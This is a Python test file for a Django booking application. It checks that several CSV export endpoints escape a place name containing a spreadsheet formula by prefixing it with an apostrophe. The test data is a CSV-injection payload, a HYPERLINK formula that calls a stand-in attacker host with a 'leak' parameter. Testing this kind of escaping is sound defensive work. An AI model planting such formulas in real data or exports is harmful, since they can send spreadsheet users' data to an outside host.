"""A name chosen by an operator comes out of every CSV export as text, never as a formula (issue 18, finding 2)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.agreements.conftest import NOW, at, beneficiary, make_programme, make_resource
from tests.api.bearer import client_for
from vicinato.booking.services import reserve

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?leak","Lanterna")'


def rows(response) -> list[dict]:
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_reports_and_statements_escape_a_formula_in_a_place_name(
    host_staff, host, place, city_hall, city_admin, user_factory
):
    place.name_en = place.name_it = EVIL
    place.save()
    programme = make_programme(city_hall)
    programme.places.add(place)
    person = user_factory("coworker")
    beneficiary(programme, person)
    reserve(person, make_resource(place, price_cents_per_slot=1000), at("09:00"), at("10:00"), now=NOW)

    operator = rows(
        client_for(host_staff).get(f"/api/v1/agreements/vouchers/organisations/{host.pk}/report.csv")
    )
    statement = rows(client_for(person).get("/api/v1/agreements/vouchers/statement.csv"))
    funder = rows(
        client_for(city_admin).get(
            f"/api/v1/agreements/vouchers/programmes/{programme.pk}/report.csv", {"month": "2030-03"}
        )
    )
    for exported in (operator, statement, funder):
        assert [row["place"] for row in exported] == ["'" + EVIL]


def test_open_data_places_csv_escapes_a_formula(listed):
    listed.name_en = listed.name_it = EVIL
    listed.save()
    exported = rows(Client().get("/opendata/places.csv"))
    assert [row["name"] for row in exported] == ["'" + EVIL]
